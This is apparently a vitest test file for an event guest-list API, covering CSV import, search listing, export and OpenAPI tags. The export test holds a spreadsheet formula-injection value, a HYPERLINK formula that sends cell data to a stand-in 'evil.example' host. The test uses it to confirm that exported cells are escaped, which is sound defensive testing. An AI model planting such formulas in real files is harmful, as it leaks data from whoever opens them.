import fs from 'node:fs'
import path from 'node:path'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { type BackendGateway, call, createBackendGateway, metadata, seedTeam } from '../helpers/gateway.js'
import { TOOL_EXPORTS } from '../attendees/toolExports.js'

// The guest list under an event with the API key (issue 19): GET list/search, POST import (text/csv), GET export.

const fixtures = path.join(import.meta.dirname, '../fixtures/attendees')
const fixture = (name: string) => fs.readFileSync(path.join(fixtures, name))
const guestbook = [{ name: 'Guests', symbol: 'GST', chainId: 31337, events: [{ name: 'Opening', tokenId: '1', metadata: metadata() }] }]

let gw: BackendGateway
let apiKey: string
let otherKey: string
let eventId: number

beforeEach(async () => {
  gw = await createBackendGateway()
  const team = await seedTeam(gw, { name: 'Venue', chips: [{ uid: '04A1B2C3D4E5F6' }], guestbookContracts: guestbook })
  apiKey = team.apiKey
  otherKey = (await seedTeam(gw, { name: 'Other', guestbookContracts: [{ ...guestbook[0]!, name: 'Theirs' }] })).apiKey
  eventId = (await gw.store.guestbook.listEvents(team.teamId))[0]!.id
})
afterEach(() => gw.close())

const importCsv = (body: string | Buffer, query = '', key = apiKey, contentType = 'text/csv') =>
  call(gw, { method: 'POST', url: `/events/${eventId}/attendees/import${query}`, headers: { 'x-service-api-key': key, 'content-type': contentType }, payload: body })

describe('POST /events/:eventId/attendees/import', () => {
  test.each(TOOL_EXPORTS)('%s: detected by its header, imported', async (file, format, imported) => {
    const res = await importCsv(fixture(file))
    expect(res.status).toBe(200)
    expect(res.body).toMatchObject({ success: true, eventId, format, imported, inserted: imported, updated: 0 })
  })

  test('?map= reads any CSV; an unknown column is 400 naming it', async () => {
    const map = encodeURIComponent('name=Guest,email=Mail,ticket=Barcode,type=Pass,chip=Wristband,wallet=Wallet')
    expect((await importCsv(fixture('custom.csv'), `?map=${map}`)).body).toMatchObject({ format: 'map', imported: 3, chipsBound: 1 })
    const bad = await importCsv(fixture('custom.csv'), `?map=${encodeURIComponent('name=Guest,ticket=Code')}`)
    expect(bad).toMatchObject({ status: 400, body: { error: 'csv_map_unknown_column', errors: { 'map.ticket': 'No column "Code" in the file' } } })
  })

  test('a bad row: 400 csv_rows_invalid naming line and column, nothing imported', async () => {
    const csv = fs.readFileSync(path.join(fixtures, 'eventbrite.csv'), 'utf8').replace('jane.doe@example.com', 'jane.doe')
    const res = await importCsv(csv)
    expect(res).toMatchObject({ status: 400, body: { success: false, error: 'csv_rows_invalid', errors: { 'line 3, Email': '"jane.doe" is not an email address' } } })
    expect(await gw.store.attendees.countEvent(eventId)).toBe(0)
  })

  test('not UTF-8: 400 csv_unreadable; not text/csv: 415; another team\'s event: 404; no key: 401', async () => {
    expect(await importCsv(Buffer.from([0xff, 0xfe, 0x41, 0x00, 0x2c]))).toMatchObject({ status: 400, body: { error: 'csv_unreadable' } })
    expect(await importCsv(JSON.stringify('Guest,Barcode'), '', apiKey, 'application/json')).toMatchObject({ status: 415, body: { error: 'unsupported_media_type' } })
    expect(await importCsv(fixture('tito.csv'), '', otherKey)).toMatchObject({ status: 404, body: { error: 'event_not_found' } })
    expect((await call(gw, { method: 'POST', url: `/events/${eventId}/attendees/import`, headers: { 'content-type': 'text/csv' }, payload: 'x' })).status).toBe(401)
  })

  test('a file over 1 MiB is taken (the CSV limit is 50 MB, not the JSON one)', async () => {
    const rows = Array.from({ length: 20_000 }, (_, i) => `Guest number ${i} with a long enough name,T-${String(i).padStart(6, '0')},guest${i}@example.com`)
    const csv = `Guest,Barcode,Mail\n${rows.join('\n')}\n`
    expect(csv.length).toBeGreaterThan(1024 * 1024)
    expect((await importCsv(csv, `?map=${encodeURIComponent('name=Guest,ticket=Barcode,email=Mail')}`)).body).toMatchObject({ imported: 20_000, inserted: 20_000 })
  })

  test('bounds (issue 24): a field past 10,000 characters is 413 naming the line; a Content-Length past 50 MB is refused unread', async () => {
    const field = await importCsv(`Guest,Barcode\nAda,A1\n${'n'.repeat(20_000)},B2\n`, `?map=${encodeURIComponent('name=Guest,ticket=Barcode')}`)
    expect(field.status).toBe(413)
    expect(field.body).toMatchObject({ error: 'csv_field_too_large', message: expect.stringMatching(/^Line 3: the field in column "Guest" is 20,000 characters long/) })
    const huge = await call(gw, {
      method: 'POST',
      url: `/events/${eventId}/attendees/import`,
      headers: { 'content-type': 'text/csv', 'x-service-api-key': apiKey, 'content-length': String(60 * 1024 * 1024) },
      payload: 'Guest,Barcode\n',
    })
    expect(huge.status).toBe(413)
    expect(huge.body).toMatchObject({ error: 'csv_too_large' })
    expect(await gw.store.attendees.countEvent(eventId)).toBe(0)
  })
})

describe('GET /events/:eventId/attendees', () => {
  test('pages by name, searches folded, counts the total; another team\'s event is 404', async () => {
    await importCsv(fixture('tito.csv'))
    const list = (query: string, key = apiKey) => call(gw, { method: 'GET', url: `/events/${eventId}/attendees${query}`, headers: { 'x-service-api-key': key } })
    const page = await list('?limit=2')
    expect(page.status).toBe(200)
    expect(page.body).toMatchObject({ success: true, total: 3 })
    expect(page.body.attendees.map((a: { name: string }) => a.name)).toEqual(['Björn Åkesson', 'Dan Brown'])
    expect(page.body.attendees[0]).toEqual({
      id: expect.any(Number),
      name: 'Björn Åkesson',
      email: 'bjorn@example.se',
      ticketType: 'Standard Ticket',
      ticketCode: 'GIAO-1',
      wallet: null,
      note: null,
      needsAttention: false,
      paid: true,
      createdAt: '2026-11-21T10:00:00.000Z',
      updatedAt: '2026-11-21T10:00:00.000Z',
    })
    expect((await list('?limit=2&offset=2')).body.attendees.map((a: { name: string }) => a.name)).toEqual(['Lena Fischer'])
    expect((await list('?q=akesson')).body).toMatchObject({ total: 1, attendees: [{ ticketCode: 'GIAO-1' }] })
    expect((await list('?limit=0')).status).toBe(400)
    expect((await list('?offset=-1')).status).toBe(400)
    expect((await list('', otherKey)).body).toMatchObject({ error: 'event_not_found' })
  })
})

describe('GET /events/:eventId/attendees/export', () => {
  test('CSV by default (a download, formula cells escaped), JSON with the raw values', async () => {
    await importCsv(fixture('custom.csv'), `?map=${encodeURIComponent('name=Guest,ticket=Barcode')}`)
    const csv = await gw.app.inject({ method: 'GET', url: `/events/${eventId}/attendees/export`, headers: { 'x-service-api-key': apiKey } })
    expect(csv.statusCode).toBe(200)
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8')
    expect(csv.headers['content-disposition']).toBe(`attachment; filename="attendees-event-${eventId}.csv"`)
    expect(csv.body.split('\r\n')[1]).toMatch(/^BC-0002,"'=HYPERLINK\(/)
    const json = await gw.app.inject({ method: 'GET', url: `/events/${eventId}/attendees/export?format=json`, headers: { 'x-service-api-key': apiKey } })
    expect(json.headers['content-type']).toBe('application/json; charset=utf-8')
    expect(JSON.parse(json.body).attendees[0]).toMatchObject({ ticketCode: 'BC-0002', name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")' })
    const other = await call(gw, { method: 'GET', url: `/events/${eventId}/attendees/export`, headers: { 'x-service-api-key': otherKey } })
    expect(other).toMatchObject({ status: 404, body: { error: 'event_not_found' } })
  })
})

test('the OpenAPI document lists the three operations under "tapgate extension", the import as text/csv or .xlsx', async () => {
  const doc = (await call(gw, { method: 'GET', url: '/openapi.json' })).body
  const ops = ['/events/{eventId}/attendees', '/events/{eventId}/attendees/import', '/events/{eventId}/attendees/export']
  for (const op of ops) expect(Object.values(doc.paths[op]).map((o) => (o as { tags: string[] }).tags)).toEqual([['tapgate extension']])
  expect(Object.keys(doc.paths['/events/{eventId}/attendees/import'].post.requestBody.content)).toEqual(['text/csv', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'])
})
